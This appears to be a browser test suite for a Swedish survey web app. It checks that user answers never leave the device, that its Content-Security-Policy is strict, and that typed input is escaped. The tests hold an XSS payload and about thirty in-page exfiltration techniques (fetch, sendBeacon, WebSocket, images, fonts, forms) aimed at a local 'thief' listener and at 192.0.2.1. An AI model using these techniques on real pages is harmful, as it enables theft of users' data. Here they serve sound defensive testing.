// Nothing leaves the device: no other host is asked, what is fetched does not depend on the answers, the page's policy
// stops what should not be there, and the site works in a sub-folder.

import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { dirname, join, resolve } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { assertClean, recordOf } from './support/browser.mjs';
import { BUILD, JOURNEY, OTHER, draft } from './support/firms.mjs';
import { headersFor, parseHeaders } from './support/server.mjs';
import { App, start } from './support/steps.mjs';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
let site;
before(async () => {
  site = await start({ own: true }); // whose requests are counted
});
after(() => site.stop());

/**
 * Walks the whole way and lists, in order, everything that the browser asked for, and what of it reached the server.
 * Chromium asks for the icon anew at every change of address; it has it, so that never leaves the machine.
 */
async function walked(answers) {
  const page = await site.newPage();
  const asked = [];
  site.server.requests.length = 0;
  page.on('request', (request) => asked.push(`${request.method()} ${new URL(request.url()).pathname}${new URL(request.url()).search} ${request.postData() ?? ''}`.trim()));
  const app = new App(page);
  await app.open('/');
  await app.loaded();
  const icon = (line) => line.includes('/favicon');
  const afterLoad = site.server.requests.length;
  await page.locator('main .btn').click();
  await app.at('/fragor/foretaget/sector');
  await app.walk(answers);
  await page.locator('main .btn').first().click();
  await app.at('/resultat');
  await page.locator('.verdicts').waitFor();
  const file = await app.download(() => page.locator('main button.btn').first().click());
  assert.ok(file.text.length > 1000);
  assertClean(page);
  return { asked: asked.filter((line) => !icon(line)), icons: asked.filter(icon), reached: site.server.requests.slice(), afterLoad, page };
}

test('what is fetched is the same, in the same order, whatever is answered; and nothing after the load', async () => {
  const [one, other] = [await walked(JOURNEY), await walked(OTHER)];
  assert.deepEqual(one.asked, other.asked);
  for (const { asked, icons, reached, afterLoad } of [one, other]) {
    assert.equal(reached.length, afterLoad, `nothing reaches the host because of an answer: ${reached.slice(afterLoad)}`);
    assert.deepEqual(reached.map((line) => line.replace(/^200 /, '')).sort(), [...asked, icons[0]].sort());
  }
  assert.equal(new Set(one.asked).size, one.asked.length, 'nothing is fetched twice');
  assert.ok(one.asked.every((line) => /^GET \/[\w./-]*$/.test(line)), 'no address carries anything');

  const kept = await one.page.evaluate(async () => ({
    keys: Object.keys(localStorage).sort(), session: Object.keys(sessionStorage), cookie: document.cookie,
    databases: (await indexedDB.databases()).length,
  }));
  assert.deepEqual(kept, { keys: ['kickstart.draft', 'kickstart.saved'], session: [], cookie: '', databases: 0 });
  assert.deepEqual(await one.page.context().cookies(), []);
});

test('the host gives the headers of _headers, and they are strict', async () => {
  const rules = parseHeaders(readFileSync(join(BUILD, '_headers'), 'utf8'));
  const page = await site.withDraft(draft(JOURNEY));
  const seen = new Map();
  page.on('response', (response) => seen.set(new URL(response.url()).pathname, response));
  const app = new App(page);
  await app.open('/');
  await app.loaded();
  assert.ok(seen.size > 20);
  for (const [path, response] of seen) {
    const headers = await response.allHeaders();
    for (const [name, value] of Object.entries(headersFor(rules, path))) assert.equal(headers[name.toLowerCase()], value, `${name} of ${path}`);
    assert.equal(response.status(), 200, path);
    assert.equal(headers['x-content-type-options'], 'nosniff');
  }
  const [wasm] = [...seen.keys()].filter((path) => path.endsWith('.wasm'));
  assert.match((await seen.get(wasm).allHeaders())['cache-control'], /immutable/);
  const policy = headersFor(rules, '/')['Content-Security-Policy'];
  const directives = Object.fromEntries(policy.split(';').map((part) => part.trim().split(/\s+(.*)/)));
  assert.deepEqual(directives, {
    'default-src': "'none'", 'script-src': "'self' 'wasm-unsafe-eval'", 'style-src': "'self'", 'img-src': "'self' data: blob:",
    'connect-src': "'self'", 'worker-src': "'self'", 'manifest-src': "'self'", 'font-src': "'self'", 'base-uri': "'self'",
    'form-action': "'none'", 'frame-ancestors': "'none'",
  });
});

test('the page’s policy refuses a script, a style and a request that do not belong there', async () => {
  const page = await site.newPage();
  const app = new App(page);
  const stopped = [];
  page.on('requestfailed', (request) => stopped.push([request.url(), request.failure().errorText]));
  await app.open('/');
  const tried = await page.evaluate(async () => {
    const next = () => new Promise((done) => document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true }));
    const refused = [];
    const add = (element) => {
      const violation = next();
      document.body.append(element);
      return violation;
    };
    const script = document.createElement('script');
    script.textContent = 'window.tookOver = true';
    refused.push(await add(script));
    const style = document.createElement('style');
    style.textContent = 'body { display: none }';
    refused.push(await add(style));
    const picture = new Image();
    picture.src = 'http://192.0.2.1/answers.png';
    refused.push(await add(picture));
    const violation = next();
    const answer = await fetch('http://192.0.2.1/answers').then(() => 'sent', () => 'refused');
    refused.push(await violation);
    return { refused, answer, tookOver: window.tookOver ?? false, hidden: getComputedStyle(document.body).display === 'none' };
  });
  assert.deepEqual(tried, { refused: ['script-src-elem', 'style-src-elem', 'img-src', 'connect-src'], answer: 'refused', tookOver: false, hidden: false });
  const { foreign, csp } = recordOf(page);
  assert.equal(csp.length, 4);
  const allowed = foreign.filter((url) => !stopped.some(([other, why]) => other === url && why === 'csp'));
  assert.deepEqual(allowed, [], 'the policy stops it before it leaves');
});

/** Another host, as somebody would have it who wants the answers: takes whatever comes and lists it. */
async function listener() {
  const hits = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript', 'Timing-Allow-Origin': '*' }).end();
  });
  server.on('upgrade', (request, socket) => { hits.push(`upgrade ${request.url}`); socket.destroy(); });
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  server.unref();
  return { hits, origin: `http://127.0.0.1:${server.address().port}`, stop: () => { server.closeAllConnections(); server.close(); } };
}

/**
 * Every way of sending that a page has and a policy can stop, tried from within the page: what is tried, and by which
 * directive it has to be refused. Not among them, since no policy of a page covers them: another page that is gone to (a link,
 * `location`, a refresh in a `meta`), a connection that is opened and not used (`preconnect`, `dns-prefetch`), WebRTC. A
 * manifest is covered, but no headless browser fetches one; a worker of another host is refused before any policy is asked.
 */
const WAYS = {
  fetch: 'connect-src', XMLHttpRequest: 'connect-src', WebSocket: 'connect-src', EventSource: 'connect-src', sendBeacon: 'connect-src',
  'a link that pings': 'connect-src', img: 'img-src', 'an image in SVG': 'img-src', 'a background': 'img-src', 'an icon': 'img-src', 'a poster': 'img-src',
  video: 'media-src', audio: 'media-src', script: 'script-src-elem', 'import()': 'script-src-elem', modulepreload: 'script-src-elem',
  'a worker out of a blob': 'worker-src', 'a script in a frame of its own': 'script-src-elem', 'a style sheet': 'style-src-elem', 'a style that imports': 'style-src-elem',
  'a style attribute': 'style-src-attr', 'a font': 'font-src', iframe: 'frame-src', object: 'object-src', embed: 'object-src', form: 'form-action',
  prefetch: 'default-src', 'preload of a picture': 'img-src', 'preload of a script': 'script-src-elem', 'preload of a font': 'font-src', base: 'base-uri',
};

/** In the page: tries one way and gives the directive that refused it, or nothing within so many milliseconds. */
async function tryToSend([way, target, patience]) {
  const seen = new Promise((done) => {
    document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true });
    setTimeout(() => done(null), patience);
  });
  const put = (name, members, parent = document.body) => {
    const element = Object.assign(document.createElement(name), members);
    for (const [attribute, value] of Object.entries(members.set ?? {})) element.setAttribute(attribute, value);
    parent.append(element);
    return element;
  };
  const link = (rel, members = {}) => put('link', { rel, href: target, ...members }, document.head);
  const ways = {
    fetch: () => fetch(target, { method: 'POST', body: 'answers', mode: 'no-cors', keepalive: true }).catch(() => {}),
    XMLHttpRequest: () => { const request = new XMLHttpRequest(); request.open('GET', target); request.send(); },
    WebSocket: () => new WebSocket(target.replace('http', 'ws')),
    EventSource: () => new EventSource(target),
    sendBeacon: () => navigator.sendBeacon(target, 'answers'),
    'a link that pings': () => {
      const link = put('a', { href: `${location.href}#there`, ping: target, textContent: 'x' });
      link.addEventListener('click', (event) => event.stopPropagation()); // the app follows links itself, and pings nobody
      link.click();
    },
    img: () => put('img', { src: target }),
    'an image in SVG': () => { document.body.append(new DOMParser().parseFromString(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${target}"/></svg>`, 'image/svg+xml').documentElement); },
    'a background': () => { document.body.style.backgroundImage = `url(${target})`; },
    'an icon': () => { document.querySelectorAll('link[rel~=icon]').forEach((one) => one.remove()); link('icon'); },
    'a poster': () => put('video', { poster: target }),
    video: () => put('video', { src: target, preload: 'auto' }),
    audio: () => put('audio', { src: target, preload: 'auto' }),
    script: () => put('script', { src: target }),
    'import()': () => { put('script', { type: 'module', src: target }); },
    modulepreload: () => link('modulepreload'),
    'a worker out of a blob': () => { try { new Worker(URL.createObjectURL(new Blob([`fetch('${target}')`]))); } catch { /* refused at once */ } },
    'a script in a frame of its own': () => {
      const frame = put('iframe', { srcdoc: '<p></p>' });
      frame.addEventListener('load', () => {
        const inside = frame.contentDocument;
        inside.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => document.dispatchEvent(new SecurityPolicyViolationEvent('securitypolicyviolation', { effectiveDirective })));
        put('script', { src: target }, inside.body);
      });
    },
    'a style sheet': () => link('stylesheet'),
    'a style that imports': () => put('style', { textContent: `@import '${target}';` }),
    'a style attribute': () => put('p', { set: { style: `background: url(${target})` } }),
    'a font': () => new FontFace('stolen', `url(${target})`).load().catch(() => {}),
    iframe: () => put('iframe', { src: target }),
    object: () => put('object', { data: target }),
    embed: () => put('embed', { src: target }),
    form: () => put('form', { action: target, method: 'post', target: '_blank' }).submit(),
    prefetch: () => link('prefetch'),
    'preload of a picture': () => link('preload', { as: 'image' }),
    'preload of a script': () => link('preload', { as: 'script' }),
    'preload of a font': () => link('preload', { as: 'font', crossOrigin: '' }),
    base: () => { document.querySelectorAll('base').forEach((one) => one.remove()); put('base', { href: target }, document.head); },
  };
  ways[way]();
  return seen;
}

test('nothing that is tried from within the page reaches another host, and the policy says so each time', async (t) => {
  const thief = await listener();
  t.after(() => thief.stop());
  const page = await site.withDraft(draft(JOURNEY));
  const app = new App(page);
  const refused = {};
  for (const way of Object.keys(WAYS)) {
    await app.open('/svar');
    refused[way] = await page.evaluate(tryToSend, [way, `${thief.origin}/${encodeURIComponent(way)}`, 5000]);
  }
  await page.waitForTimeout(500);
  assert.deepEqual(thief.hits, []);
  assert.deepEqual(refused, WAYS);
  // The listener hears what is sent where no policy stands in the way.
  const open = await site.browser.newPage();
  await open.goto(thief.origin);
  const heard = Object.keys(WAYS).filter((way) => !['base', 'a style attribute', 'a link that pings'].includes(way));
  for (const way of heard) await open.evaluate(tryToSend, [way, `${thief.origin}/${encodeURIComponent(way)}`, 200]);
  await open.waitForTimeout(500);
  for (const way of heard) assert.ok(thief.hits.some((hit) => hit.endsWith(`/${encodeURIComponent(way)}`)), `${way}: ${thief.hits}`);
  await open.close();
});

test('what somebody types is never taken for markup', async () => {
  const hostile = '<img src=x onerror="window.tookOver=1"><script>window.tookOver=1</script>"&{area}';
  const page = await site.withDraft(draft(JOURNEY, { notes: { 'sales-quoting.W': hostile }, label: hostile }));
  const app = new App(page);
  for (const path of ['/fragor/sales-quoting/W', '/svar', '/resultat', '/mina-uppgifter']) {
    await app.open(path);
    await app.loaded();
    await page.locator('main h1').waitFor();
    assert.equal(await page.locator('main img, main script').count(), 0, path);
    assert.equal(await page.evaluate(() => window.tookOver), undefined, path);
  }
  await app.open('/svar');
  assert.ok((await page.locator('.check-note').innerText()).includes(hostile));
  assertClean(page);
});

test('the site works in a sub-folder', async (t) => {
  const dir = join(ROOT, 'target/dist-base');
  assert.ok(existsSync(join(dir, 'index.html')), 'target/dist-base is not there: run `cargo xtask dist --base /kartlaggning/ --out target/dist-base`');
  const base = '/kartlaggning';
  const sub = await start({ dir, base: `${base}/` });
  t.after(() => sub.stop());
  const page = await sub.newPage();
  const app = new App(page);
  await app.open('/');
  await page.locator('main .btn').click();
  await app.at('/fragor/foretaget/sector');
  await app.answer('profile.sector', JOURNEY['profile.sector']);
  await app.next();
  assert.equal(app.path(), '/fragor/foretaget/headcount');
  await page.reload();
  await app.ready();
  await app.back();
  assert.deepEqual(await app.ticked('profile.sector'), ['construction']);
  await page.evaluate(([key, text]) => localStorage.setItem(key, text), ['kickstart.draft', draft(JOURNEY)]);
  await page.reload();
  await app.open('/svar');
  await page.locator('main .btn').first().click();
  await app.at('/resultat');
  await page.locator('.verdicts').waitFor();
  await page.locator('.foot-links a[href$="/exempel"]').click();
  await app.at('/exempel');
  await page.locator('.tag').waitFor();
  await page.locator('.brand').click();
  await app.at('/');
  const links = await page.locator('a[href]').evaluateAll((all) => all.map((a) => new URL(a.href).pathname));
  assert.ok(links.every((path) => path.startsWith(`${base}/`) || path === base), links.join(' '));
  assertClean(page);
  assert.ok(sub.server.requests.every((line) => line.startsWith('200 ') || line.startsWith('304 ')), sub.server.requests.join('\n'));
});
